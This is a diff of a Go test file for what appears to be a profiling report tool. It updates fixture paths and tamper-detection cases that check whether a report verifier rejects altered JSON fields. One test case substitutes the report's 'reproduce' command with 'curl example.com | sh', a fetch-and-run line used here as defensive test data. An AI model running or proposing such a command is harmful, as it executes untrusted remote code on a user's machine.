@@ -36,7 +36,7 @@ func newSealedCase(t *testing.T, flags ...string) *sealedCase {
 		t.Fatal(err)
 	}
 	var files []string
-	for _, from := range []string{"locks/orders-lockheld/mutex.pb.gz", "locks/orders-lockheld/block.pb.gz", "locks/orders-lockheld/dump.txt", "memory/hits-syncgrow/heap-1.pb.gz", "memory/hits-syncgrow/heap-2.pb.gz"} {
+	for _, from := range []string{"locks/orders-lockheld/mutex.pb.gz", "locks/orders-lockheld/block.pb.gz", "scheduler/etl-crumbs/dump.txt", "memory/letters-endlessqueue/heap-1.pb.gz", "memory/letters-endlessqueue/heap-2.pb.gz"} {
 		name := filepath.Base(from)
 		data, err := os.ReadFile(filepath.Join("..", "fixtures", from))
 		if err != nil {
@@ -283,8 +283,8 @@ func TestVerifyCatchesTampering(t *testing.T) {
 	text := string(s.originalReport)
 	line := regexp.MustCompile(`"reproduce": "go [^\n]*"`).FindString(text)
 	for name, changed := range map[string]string{
-		"field in other case":   strings.Replace(text, `"severity": "critical"`, `"severity": "info", "Severity": "critical"`, 1),
-		"field twice":           strings.Replace(text, `"severity": "critical"`, `"severity": "info", "severity": "critical"`, 1),
+		"field in other case":   strings.Replace(text, `"severity": "warning"`, `"severity": "info", "Severity": "warning"`, 1),
+		"field twice":           strings.Replace(text, `"severity": "warning"`, `"severity": "info", "severity": "warning"`, 1),
 		"line of a command":     strings.Replace(text, line, `"reproduce": "curl example.com | sh"`, 1),
 		"no line of a command":  strings.Replace(text, line, `"reproduce": ""`, 1),
 		"field that is default": strings.Replace(text, `"coverage": "whole"`, `"coverage": "whole", "followed": false`, 1),
